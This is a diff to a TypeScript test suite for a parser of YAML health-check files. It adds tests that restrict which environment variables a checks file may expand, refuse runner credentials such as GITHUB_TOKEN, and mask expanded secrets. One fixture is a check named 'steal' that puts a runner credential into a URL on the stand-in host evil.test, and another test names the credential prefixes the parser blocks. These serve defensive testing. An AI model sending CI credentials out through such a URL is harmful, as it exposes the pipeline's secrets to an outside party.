@@ -38,7 +38,7 @@ describe('parseChecks', () => {
       policy: { timeoutMs: 3000, retries: 2, intervalMs: 100, consecutiveSuccesses: 1 },
       followRedirects: true,
       maxRedirects: 5,
-      location: { file: 'test/fixtures/smoke/checks.yml', line: 9, column: 5 },
+      location: { file: 'test/fixtures/smoke/checks.yml', line: 10, column: 5 },
     });
     expect(health.expect.status).toEqual([{ min: 200, max: 200, text: '200' }]);
     expect(health.expect.bodyContains).toEqual(['ok']);
@@ -132,12 +132,12 @@ describe('parseChecks', () => {
     ]);
   });
 
-  it('refuses an environment reference that is not set, naming the variable', () => {
-    const error = failure(() =>
-      parseChecks({ text: '- path: /\n  headers:\n    Authorization: Bearer ${NOPE_TOKEN}\n' }, defaults, {}),
-    );
+  it('refuses a declared environment reference that is not set, naming the variable', () => {
+    const text =
+      'env: [NOPE_TOKEN]\nchecks:\n  - path: /\n    headers:\n      Authorization: Bearer ${NOPE_TOKEN}\n';
+    const error = failure(() => parseChecks({ text }, defaults, {}));
     expect(error.message).toBe(
-      'The checks input, line 3: "headers.Authorization" uses ${NOPE_TOKEN}, but the environment variable NOPE_TOKEN is not set.',
+      'The checks input, line 5: "headers.Authorization" uses ${NOPE_TOKEN}, but the environment variable NOPE_TOKEN is not set.',
     );
   });
 
@@ -170,6 +170,130 @@ describe('parseChecks', () => {
   it('refuses a duplicate key, as YAML does not allow it', () => {
     const error = failure(() => parseChecks({ text: '- path: /a\n  path: /b\n' }, defaults, {}));
     expect(error.message).toMatch(/^The checks input, line 2: Map keys must be unique/);
+  });
+});
+
+describe('environment references in a checks file', () => {
+  const env = {
+    SMOKE_TOKEN: 'tok-declared-123456',
+    OTHER_SECRET: 'other-secret-value',
+    INPUT_KUBECONFIG: 'kubeconfig-secret-text',
+    ACTIONS_RUNTIME_TOKEN: 'runtime-token-value',
+    GITHUB_TOKEN: 'ghs_github_token_value',
+  };
+
+  it('expands only the names the file declares in "env", from the step environment', () => {
+    const text = [
+      'env: [SMOKE_TOKEN]',
+      'checks:',
+      '  - name: health',
+      '    url: https://example.test/${SMOKE_TOKEN}',
+      '    headers: { X-Token: "${SMOKE_TOKEN}" }',
+      '',
+    ].join('\n');
+    const [check] = parseChecks({ text }, defaults, env);
+    expect(check?.target).toBe('https://example.test/tok-declared-123456');
+    expect(check?.headers['X-Token']).toBe('tok-declared-123456');
+  });
+
+  it('refuses a reference to an undeclared name, naming the check, the field and the name', () => {
+    const text = [
+      'env: [SMOKE_TOKEN]',
+      'checks:',
+      '  - name: leak',
+      '    method: POST',
+      '    path: /p',
+      '    body: "${OTHER_SECRET}"',
+      '',
+    ].join('\n');
+    const error = failure(() => parseChecks({ text }, defaults, env));
+    expect(error.message).toBe(
+      'The checks input, line 6: check "leak" "body" uses ${OTHER_SECRET}, which the file does not declare: add OTHER_SECRET to its "env" list.',
+    );
+    expect(error.message).not.toContain('other-secret-value');
+  });
+
+  it('refuses every reference in a bare list of checks, which cannot declare "env"', () => {
+    const error = failure(() =>
+      parseChecks({ text: '- url: https://x.test/${SMOKE_TOKEN}\n' }, defaults, env),
+    );
+    expect(error.message).toContain(
+      'check 1 "url" uses ${SMOKE_TOKEN}, which the file does not declare: add SMOKE_TOKEN to its "env" list',
+    );
+  });
+
+  it.each(['INPUT_KUBECONFIG', 'ACTIONS_RUNTIME_TOKEN', 'RUNNER_TEMP', 'GITHUB_TOKEN', 'input_password'])(
+    'refuses the runner credential or step input %s, declared or referenced',
+    (name) => {
+      const declared = failure(() =>
+        parseChecks({ text: `env: [${name}]\nchecks:\n  - path: /\n` }, defaults, env),
+      );
+      expect(declared.message).toBe(
+        `The checks input, line 1: "env" declares \${${name}}, which a checks file may not read: INPUT_*, ACTIONS_*, RUNNER_* and GITHUB_TOKEN hold the step's inputs and the runner's credentials.`,
+      );
+      const referenced = failure(() =>
+        parseChecks(
+          { text: `checks:\n  - name: steal\n    url: https://evil.test/?t=\${${name}}\n` },
+          defaults,
+          env,
+        ),
+      );
+      expect(referenced.message).toContain(
+        `check "steal" "url" uses \${${name}}, which a checks file may not read`,
+      );
+      for (const value of Object.values(env)) {
+        expect(declared.message).not.toContain(value);
+        expect(referenced.message).not.toContain(value);
+      }
+    },
+  );
+
+  it('masks every expanded value for the rest of the run, wherever it was used', () => {
+    const text = [
+      'env: [PATH_PART, BODY_PART]',
+      'checks:',
+      '  - method: POST',
+      '    path: /items/${PATH_PART}',
+      '    body: "secret=${BODY_PART}"',
+      '',
+    ].join('\n');
+    parseChecks({ text }, defaults, { PATH_PART: 'path-part-value', BODY_PART: 'body-part-value' });
+    expect(maskSecrets('GET /items/path-part-value with secret=body-part-value')).toBe(
+      'GET /items/*** with secret=***',
+    );
+  });
+
+  it('refuses an "env" that is not a list of names', () => {
+    expect(
+      failure(() => parseChecks({ text: 'env: SMOKE_TOKEN\nchecks: [{ path: / }]\n' }, defaults, env))
+        .message,
+    ).toContain('"env" must be a list of environment variable names');
+    expect(
+      failure(() => parseChecks({ text: 'env: [not-a-name]\nchecks: [{ path: / }]\n' }, defaults, env))
+        .message,
+    ).toContain('"env" lists "not-a-name", which is not an environment variable name');
+  });
+});
+
+describe('credentials in a check URL', () => {
+  it('become a masked Basic Authorization header and leave the URL and the name', () => {
+    const [check] = parseChecks(
+      { text: '- url: http://ops:pa%40ss-word-1@example.test/health\n' },
+      defaults,
+      {},
+    );
+    expect(check?.target).toBe('http://example.test/health');
+    expect(check?.name).toBe('GET http://example.test/health');
+    expect(check?.headers.Authorization).toBe(`Basic ${Buffer.from('ops:pa@ss-word-1').toString('base64')}`);
+    expect(maskSecrets(`pa@ss-word-1 ${check?.headers.Authorization}`)).toBe('*** ***');
+  });
+
+  it('give way to an Authorization header the check sets itself, as in curl', () => {
+    const text =
+      '- url: http://ops:pass-word-2@example.test/\n  headers: { Authorization: Bearer own-token-1 }\n';
+    const [check] = parseChecks({ text }, defaults, {});
+    expect(check?.headers).toEqual({ Authorization: 'Bearer own-token-1' });
+    expect(check?.target).toBe('http://example.test/');
   });
 });
 
